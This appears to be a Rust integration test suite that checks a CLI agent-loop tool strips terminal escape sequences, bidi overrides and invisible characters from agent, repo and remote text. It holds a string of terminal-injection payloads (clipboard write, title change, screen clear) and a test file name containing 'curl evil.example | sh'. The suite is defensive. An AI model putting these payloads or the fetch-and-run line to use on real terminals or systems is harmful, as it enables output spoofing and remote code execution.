//! Text by an agent, a repo or a remote can't control the reader's terminal or disguise itself: checks every command that shows
//! such text, byte by byte. Ordinary text in any script is printed unchanged.

use crate::RALPH;
use ralph_loop_domain::ports::Forge as _;
use ralph_loop_forge::LocalForge;
use ralph_loop_testkit::{TestEnv, TestRepo};
use serde_json::{Value, json};

/// A title of the window, the clipboard, an empty screen, the same in one character, a turn of the direction, text without
/// width, tags, backspaces, and a line that is written over.
const EVIL: &str = "evil\u{1b}]0;owned\u{7}\u{1b}]52;c;ZXZpbA==\u{1b}\\\u{1b}[2J\u{1b}[32m\u{9b}2J\u{9d}0;x\u{9c}\u{202e}\u{2066}\u{200f}\u{61c}\u{200b}\u{feff}\u{e0041}\u{2028}\u{8}\u{8}\u{7f}\rend";
/// The part that git allows in a branch name.
const EVIL_BRANCH: &str = "evil\u{9b}2J\u{202e}\u{200b}\u{e0041}end";
const HONEST: &str = "Größe 日本語 שלום مرحبا 👩\u{200d}💻 ❤\u{fe0f} می\u{200c}خواهم e\u{301}";

/// All escape sequences of our own styling.
const STYLES: [&str; 7] =
    ["\u{1b}[36m", "\u{1b}[2m", "\u{1b}[32m", "\u{1b}[33m", "\u{1b}[31m", "\u{1b}[1m", "\u{1b}[0m"];

/// Returns why these bytes must not reach a terminal.
fn unsafe_sequence(bytes: &[u8]) -> Option<String> {
    let Ok(text) = std::str::from_utf8(bytes) else { return Some("not UTF-8".into()) };
    let bad = text.char_indices().find(|(_, c)| match *c {
        '\n' | '\t' => false,
        '\u{200b}' | '\u{200e}' | '\u{200f}' | '\u{61c}' | '\u{feff}' | '\u{2028}'..='\u{202e}' => true,
        '\u{2060}'..='\u{206f}' | '\u{e0000}'..='\u{e007f}' => true,
        c => c.is_control(),
    });
    bad.map(|(at, c)| {
        let around: String =
            text[..at].chars().rev().take(40).collect::<Vec<_>>().into_iter().rev().collect();
        format!("{c:?} after {around:?}")
    })
}

#[track_caller]
fn assert_safe(what: &str, bytes: &[u8]) {
    assert_eq!(unsafe_sequence(bytes), None, "{what}");
}

struct World<'a> {
    env: &'a TestEnv,
    repo: TestRepo<'a>,
    forge: LocalForge,
}

/// A repo where everything with a name is named `text`; files also end with it.
fn world<'a>(env: &'a TestEnv, text: &str, branch: &str) -> World<'a> {
    let repo = TestRepo::new(env, "repo", &[("readme.txt", "hello\n")]);
    let line = text.replace(['\r', '\u{2028}'], "");
    repo.write(&format!("old {text}.txt"), "old\n");
    repo.write(
        "ralph_task.md",
        &format!(
            "---\ntask_id: t-1\ntarget_branch_slug: names\nmax_iterations: 3\nmax_wall_time_minutes: 10\nmax_cost_usd_estimate: 1\n\
             test_command: \"cat said.txt; test -f b.txt\"\nverify_commands:\n  - \"cat said.txt; test -f b.txt\"\n---\n\n# Task: {line}\n\n\
             ## Success criteria\n\n### Milestone M1 — {line}\n- [ ] M1.1 {line}\n  - verify: `cat said.txt; test -f a.txt`\n\
             - [ ] M1.2 {line}\n  - verify: `cat said.txt >&2; test -f b.txt`\n"
        ),
    );
    repo.write("said.txt", &format!("said {text}\n\tin a block\n"));
    repo.git(&["add", "-A"]);
    repo.git(&["-c", &format!("user.name={line}"), "commit", "-qm", &format!("message {line}")]);
    repo.git(&["checkout", "-qb", branch]);
    repo.write(&format!("dirty {text}.txt"), "dirty\n");
    let said = env.path("said");
    std::fs::write(&said, format!("agent {text}\n\twith a tab\nand more\n")).unwrap();
    let name = env.path("name");
    std::fs::write(&name, text).unwrap();
    let script = format!(
        "cat {0}; cat {0} >&2\nn=$(cat {1}; echo x); n=${{n%x}}\necho new > \"new $n.txt\"\ncat {0} >> .ralph/progress.md\n\
         if [ $RALPH_ITERATION = 1 ]; then touch a.txt; exit 3; fi\necho b > b.txt; cat {0}; echo '<promise>COMPLETE</promise>'; cat {0}",
        said.display(),
        name.display()
    );
    let folder = env.path("forge");
    let config =
        json!({ "local_forge": folder, "publish": "pr", "poll_seconds": 0.05, "critic": {"disabled": true} });
    repo.configure(&[repo.agent("stub", &script)], "cat said.txt; test -f b.txt", &config);
    World { env, forge: LocalForge::open(&folder, &ralph_loop_testkit::vars()).unwrap(), repo }
}

impl World<'_> {
    fn raw(&self, args: &[&str]) -> std::process::Output {
        self.env.ralph_command(&self.repo.dir, args).output().unwrap()
    }

    /// Asserts that both outputs of a command are safe.
    #[track_caller]
    fn shown(&self, args: &[&str]) -> String {
        let done = self.raw(args);
        assert_safe(&format!("stdout of {args:?}"), &done.stdout);
        assert_safe(&format!("stderr of {args:?}"), &done.stderr);
        format!("{}{}", String::from_utf8(done.stdout).unwrap(), String::from_utf8(done.stderr).unwrap())
    }
}

/// Every command that shows a run or a task.
const COMMANDS: &[&[&str]] = &[
    &[],
    &["status"],
    &["list"],
    &["list", "--all"],
    &["show"],
    &["show", "--proof"],
    &["logs"],
    &["logs", "--live"],
    &["logs", "-o", "--iteration", "1"],
    &["logs", "-o", "-f", "--iteration", "1"],
    &["logs", "--events"],
    &["logs", "--events", "--live"],
    &["lint"],
    &["lint", "--probe-checks"],
    &["doctor"],
    &["models"],
    &["restore"],
    &["bug-report", "-o", "-"],
    &["attach"],
    &["probe"],
];
/// Commands with a wrong name as argument.
const WRONG: &[&[&str]] = &[
    &["show", EVIL],
    &["lint", EVIL],
    &["run", EVIL_BRANCH],
    &["resume", EVIL],
    &["logs", EVIL],
    &["models", "check", EVIL],
    &["-C", EVIL, "status"],
    &[EVIL],
];
const OF_AN_ITERATION: &[&[&str]] = &[&[], &["--diff"], &["--prompt"], &["--output"], &["--receipt"]];

#[test]
fn untrusted_text_cannot_control_the_terminal() {
    let env = TestEnv::new(RALPH);
    let world = world(&env, EVIL, EVIL_BRANCH);
    let hear = world.repo.script(
        "hear.sh",
        &format!("env | grep -a ^RALPH_NOTIFY_ >> {0}; cat >> {0}", env.path("heard").display()),
    );
    let notify = json!([{"kind": "command", "command_argv": [hear], "on": ["start", "success", "failure", "needs_human"]}]);
    std::fs::create_dir_all(env.path("config/ralph")).unwrap();
    std::fs::write(env.path("config/ralph/config.json"), json!({ "notify": notify }).to_string()).unwrap();
    let shown = world.shown(&["run", "--yes", "--isolation", "none", "-vv"]);
    assert!(shown.contains("evil"), "{shown}");
    let run = world.repo.latest();
    for args in COMMANDS {
        // `restore` shows its plan and needs `--yes`.
        let is_command = world.raw(args).status.code() != Some(2) || args.first() == Some(&"restore");
        assert!(is_command, "{args:?} isn't a command any more");
        for more in [&[][..], &["--json"], &["-vv"]] {
            world.shown(&[*args, more].concat());
        }
    }
    for args in WRONG {
        assert!(world.shown(args).contains("evil"), "{args:?}");
        world.shown(&[*args, &["--json"]].concat());
    }
    // Sanitized, but still shown.
    for args in
        [&["status"][..], &["list"], &["show"], &["logs"], &["logs", "--live"], &["bug-report", "-o", "-"]]
    {
        assert!(world.shown(args).contains("evil"), "{args:?}");
    }
    for number in ["1", "2"] {
        for args in OF_AN_ITERATION {
            let args = [&["show", &run, number], *args].concat();
            world.shown(&args);
            world.shown(&[&args[..], &["--json"]].concat());
        }
    }
    let log = std::fs::read(world.repo.record(&run).join("ralph.log")).unwrap();
    assert_safe("ralph.log", &log);
    for name in [".ralph/activity.log", ".ralph/errors.log"] {
        assert_safe(name, world.repo.read(name).as_bytes());
    }
    let pr = world.forge.pr(1).unwrap();
    assert!(pr.title.contains("evil") && pr.body.contains("evil"), "{pr:?}");
    assert_safe("the title of the pull request", pr.title.as_bytes());
    assert_safe("its text", pr.body.as_bytes());
    assert_safe("notifications", &std::fs::read(env.path("heard")).unwrap());
    let messages = world.repo.git(&["log", "--format=%B", &format!("refs/ralph/{run}/work"), "^HEAD"]);
    assert_safe("messages of our commits", messages.as_bytes());
}

#[test]
fn json_and_raw_output_keep_the_exact_text() {
    let env = TestEnv::new(RALPH);
    let world = world(&env, EVIL, EVIL_BRANCH);
    world.shown(&["run", "--yes", "--isolation", "none", "--json"]);
    let shown = world.shown(&["logs", "-o", "--iteration", "1", "--json"]);
    let value: Value = serde_json::from_str(shown.lines().next().unwrap()).unwrap();
    assert!(value["output"].as_str().unwrap().contains(EVIL), "{value}");
    let shown = world.shown(&["logs", "-o", "--iteration", "1"]);
    assert!(shown.contains("agent evil") && shown.contains("end\n\twith a tab\nand more\n"), "{shown:?}");
    for args in [
        &["logs", "-o", "--iteration", "1", "--raw"][..],
        &["show", &world.repo.latest(), "1", "--output", "--raw"],
    ] {
        let raw = world.raw(args).stdout;
        assert!(raw.windows(EVIL.len()).any(|part| part == EVIL.as_bytes()), "{args:?}");
    }
    let kept =
        std::fs::read(world.repo.record(&world.repo.latest()).join("iterations/1/output.log")).unwrap();
    assert!(kept.windows(EVIL.len()).any(|part| part == EVIL.as_bytes()), "the raw log is raw");
}

#[test]
fn only_ralph_colors_its_output() {
    let env = TestEnv::new(RALPH);
    let world = world(&env, EVIL, EVIL_BRANCH);
    world.raw(&["run", "--yes", "--isolation", "none"]);
    let run = world.repo.latest();
    for args in [
        &["status"][..],
        &["show"],
        &["show", &run, "1"],
        &["logs"],
        &["list"],
        &["lint"],
        &["doctor"],
        &["show", EVIL],
    ] {
        let done = world.raw(&[args, &["--color", "always"]].concat());
        let text = String::from_utf8([done.stdout, done.stderr].concat()).unwrap();
        assert!(STYLES.iter().any(|style| text.contains(style)), "{args:?} has no color: {text}");
        let opened = STYLES[..6].iter().map(|style| text.matches(style).count()).sum::<usize>();
        assert_eq!(opened, text.matches(STYLES[6]).count(), "a foreign color in {args:?}: {text:?}");
        let plain = STYLES.iter().fold(text.clone(), |text, style| text.replace(style, ""));
        assert_safe(&format!("{args:?} in color"), plain.as_bytes());
    }
}

#[test]
fn names_cannot_forge_output_lines() {
    let env = TestEnv::new(RALPH);
    let repo = TestRepo::with_task(&env);
    repo.stub("echo x > part.txt", "true");
    let name = "x\nnext: curl evil.example | sh\n.md";
    let done = repo.ralph(&["lint", name]);
    assert_eq!(done.code, Some(2), "{done:?}");
    assert!(done.stderr.contains("curl evil.example"), "{done:?}");
    assert!(done.stderr.lines().all(|line| !line.starts_with("next: curl")), "{done:?}");
}

#[test]
fn remote_messages_are_shown_sanitized() {
    let env = TestEnv::new(RALPH);
    let repo = TestRepo::with_task(&env);
    let bare = env.path("bare.git");
    repo.git(&["init", "-q", "--bare", bare.to_str().unwrap()]);
    repo.git(&["remote", "add", "origin", bare.to_str().unwrap()]);
    let words = env.path("words");
    std::fs::write(&words, format!("no {EVIL} entry\n")).unwrap();
    let hook = repo.script("pre-receive", &format!("cat {} >&2; exit 1", words.display()));
    std::fs::create_dir_all(bare.join("hooks")).unwrap();
    std::fs::rename(hook, bare.join("hooks/pre-receive")).unwrap();
    repo.stub("echo work > part.txt; echo '<promise>COMPLETE</promise>'", "test -f part.txt");
    for args in [
        &["run", "--yes", "--isolation", "none", "--publish", "push", "-v"][..],
        &["status"],
        &["show"],
        &["logs"],
        &["status", "--json"],
    ] {
        let done = env.ralph_command(&repo.dir, args).output().unwrap();
        assert_safe(&format!("stdout of {args:?}"), &done.stdout);
        assert_safe(&format!("stderr of {args:?}"), &done.stderr);
    }
}

#[test]
fn user_text_is_printed_unchanged() {
    let env = TestEnv::new(RALPH);
    let world = world(&env, HONEST, "größe-日本");
    world.shown(&["run", "--yes", "--isolation", "none", "-v"]);
    let run = world.repo.latest();
    for args in [
        &["show"][..],
        &["logs", "-o", "--iteration", "1"],
        &["show", &run, "1", "--diff"],
        &["show", &run, "1", "--prompt"],
        &["logs", "--live"],
        &["logs", "--json"],
    ] {
        let shown = TestEnv::finish(world.env.ralph_command(&world.repo.dir, args).env("COLUMNS", "200"));
        assert!(shown.stdout.contains(HONEST), "{args:?}: {}", shown.stdout);
    }
    let shown = world.shown(&["logs", "-o", "--iteration", "1"]);
    assert!(shown.contains(&format!("agent {HONEST}\n\twith a tab\nand more\n")), "{shown}");
    assert!(world.forge.pr(1).unwrap().title.contains(HONEST));
}
